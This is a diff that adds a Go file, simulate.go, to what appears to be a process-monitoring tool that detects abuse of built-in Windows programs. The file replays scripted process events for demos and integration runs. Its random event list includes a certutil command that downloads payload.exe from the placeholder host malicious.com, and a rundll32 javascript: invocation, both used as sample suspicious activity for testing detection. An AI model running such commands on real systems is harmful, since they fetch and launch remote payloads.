@@ -0,0 +1,227 @@
+// simulate.go
+// Scripted scenarios for the simulated event source. A scenario file lists
+// named sequences of process events with delays, so demos and integration
+// runs replay the same activity every time instead of random picks.
+
+package main
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"log"
+	"os"
+	"time"
+)
+
+// SimulatorConfig configures the simulated event source
+type SimulatorConfig struct {
+	// ScenarioFile is a JSON scenario file to replay; empty keeps the
+	// random simulation
+	ScenarioFile string `yaml:"scenario_file"`
+	// Scenarios selects the named scenarios to replay, in order; empty
+	// replays all of them in file order
+	Scenarios []string `yaml:"scenarios"`
+	// Loop restarts the selection after the last event
+	Loop bool `yaml:"loop"`
+}
+
+// ScenarioFile is the on-disk format of a scenario file
+type ScenarioFile struct {
+	Scenarios []Scenario `json:"scenarios"`
+}
+
+// Scenario is a named, ordered list of simulated process events
+type Scenario struct {
+	Name   string          `json:"name"`
+	Events []ScenarioEvent `json:"events"`
+}
+
+// ScenarioEvent is one simulated process start. Delay is the pause after
+// the previous event. Parent PIDs may refer to earlier events of the
+// scenario to build process trees.
+type ScenarioEvent struct {
+	Delay          Duration `json:"delay,omitempty"`
+	ProcessID      uint32   `json:"pid,omitempty"`
+	ParentID       uint32   `json:"parent_pid,omitempty"`
+	ParentImage    string   `json:"parent_image,omitempty"`
+	User           string   `json:"user,omitempty"`
+	IntegrityLevel string   `json:"integrity_level,omitempty"`
+	ExecutablePath string   `json:"executable_path"`
+	CommandLine    string   `json:"command_line"`
+}
+
+// scenarios are the scenarios replayed instead of random simulation; nil
+// when no scenario file is configured
+var scenarios []Scenario
+
+// loadScenarios reads a scenario file and returns the selected scenarios
+// in replay order
+func loadScenarios(cfg SimulatorConfig) ([]Scenario, error) {
+	data, err := os.ReadFile(cfg.ScenarioFile)
+	if err != nil {
+		return nil, fmt.Errorf("failed to read scenario file: %v", err)
+	}
+	var file ScenarioFile
+	if err := json.Unmarshal(data, &file); err != nil {
+		return nil, fmt.Errorf("failed to parse scenario file: %v", err)
+	}
+
+	byName := make(map[string]Scenario, len(file.Scenarios))
+	for i, scenario := range file.Scenarios {
+		if scenario.Name == "" {
+			return nil, fmt.Errorf("scenario %d has no name", i)
+		}
+		if _, ok := byName[scenario.Name]; ok {
+			return nil, fmt.Errorf("duplicate scenario %q", scenario.Name)
+		}
+		for j, event := range scenario.Events {
+			if event.ExecutablePath == "" {
+				return nil, fmt.Errorf("scenario %q event %d has no executable_path", scenario.Name, j)
+			}
+			if event.IntegrityLevel != "" && integrityRank(event.IntegrityLevel) == 0 {
+				return nil, fmt.Errorf("scenario %q event %d has unknown integrity level %q", scenario.Name, j, event.IntegrityLevel)
+			}
+			if event.Delay < 0 {
+				return nil, fmt.Errorf("scenario %q event %d has a negative delay", scenario.Name, j)
+			}
+		}
+		byName[scenario.Name] = scenario
+	}
+
+	selected := file.Scenarios
+	if len(cfg.Scenarios) > 0 {
+		selected = make([]Scenario, 0, len(cfg.Scenarios))
+		for _, name := range cfg.Scenarios {
+			scenario, ok := byName[name]
+			if !ok {
+				return nil, fmt.Errorf("unknown scenario %q", name)
+			}
+			selected = append(selected, scenario)
+		}
+	}
+
+	var events int
+	var total time.Duration
+	for _, scenario := range selected {
+		events += len(scenario.Events)
+		for _, event := range scenario.Events {
+			total += time.Duration(event.Delay)
+		}
+	}
+	if events == 0 {
+		return nil, fmt.Errorf("scenario file defines no events")
+	}
+	// A loop without any delay would flood the event store
+	if cfg.Loop && total == 0 {
+		return nil, fmt.Errorf("looping scenarios need at least one delay")
+	}
+	return selected, nil
+}
+
+// simulatorSource is the simulated event source. It replays the configured
+// scenarios, or picks a random process every ten seconds without any.
+type simulatorSource struct {
+	scenarios []Scenario
+	loop      bool
+}
+
+// newSimulatorSource creates the simulator from the loaded scenarios
+func newSimulatorSource() (EventSource, error) {
+	return &simulatorSource{scenarios: scenarios, loop: config.Simulator.Loop}, nil
+}
+
+// Name identifies the simulator
+func (s *simulatorSource) Name() string {
+	return "simulate"
+}
+
+// Start runs the simulation until ctx is cancelled or the scenarios are
+// done
+func (s *simulatorSource) Start(ctx context.Context, events chan<- ProcessEvent) error {
+	if s.scenarios != nil {
+		runScenarios(ctx, events, s.scenarios, s.loop)
+		return nil
+	}
+	ticker := time.NewTicker(10 * time.Second)
+	defer ticker.Stop()
+
+	for {
+		select {
+		case <-ctx.Done():
+			return nil
+		case <-ticker.C:
+			if !sendEvent(ctx, events, randomProcessEvent()) {
+				return nil
+			}
+		}
+	}
+}
+
+// randomProcessEvent creates a random simulated process event
+func randomProcessEvent() ProcessEvent {
+	// Simulate some common processes, including LOLBins
+	possibleProcesses := []struct {
+		path         string
+		commandLine  string
+		isSuspicious bool
+	}{
+		{`C:\Windows\System32\cmd.exe`, `cmd.exe /c echo hello`, false},
+		{`C:\Windows\System32\powershell.exe`, `powershell.exe -Command "Get-Process"`, false},
+		{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -f http://malicious.com/payload.exe C:\temp\payload.exe`, true},
+		{`C:\Windows\System32\rundll32.exe`, `rundll32.exe javascript:alert('XSS')`, true},
+		{`C:\Program Files\Internet Explorer\iexplore.exe`, `iexplore.exe https://example.com`, false},
+		{`C:\Windows\System32\notepad.exe`, `notepad.exe C:\temp\notes.txt`, false},
+	}
+
+	// Pick a random process
+	processIndex := int(time.Now().UnixNano() % int64(len(possibleProcesses)))
+	selectedProcess := possibleProcesses[processIndex]
+
+	return ProcessEvent{
+		Timestamp:      time.Now(),
+		ProcessID:      uint32(10000 + time.Now().Second()),
+		ParentID:       uint32(4), // System
+		CommandLine:    selectedProcess.commandLine,
+		ExecutablePath: selectedProcess.path,
+		IsLOLBin:       false,
+		Suspicious:     false,
+	}
+}
+
+// runScenarios replays scenarios until they are done or ctx is cancelled
+func runScenarios(ctx context.Context, events chan<- ProcessEvent, scenarios []Scenario, loop bool) {
+	for {
+		for _, scenario := range scenarios {
+			log.Printf("Replaying scenario %q (%d events)", scenario.Name, len(scenario.Events))
+			for _, step := range scenario.Events {
+				select {
+				case <-ctx.Done():
+					return
+				case <-time.After(time.Duration(step.Delay)):
+				}
+				if !sendEvent(ctx, events, step.processEvent()) {
+					return
+				}
+			}
+		}
+		if !loop {
+			log.Println("Scenario replay finished")
+			return
+		}
+	}
+}
+
+// processEvent builds the process event a scenario step simulates
+func (e ScenarioEvent) processEvent() ProcessEvent {
+	return ProcessEvent{
+		Timestamp:      time.Now(),
+		ProcessID:      e.ProcessID,
+		ParentID:       e.ParentID,
+		ParentImage:    e.ParentImage,
+		User:           e.User,
+		IntegrityLevel: e.IntegrityLevel,
+		CommandLine:    e.CommandLine,
+		ExecutablePath: e.ExecutablePath,
+	}
+}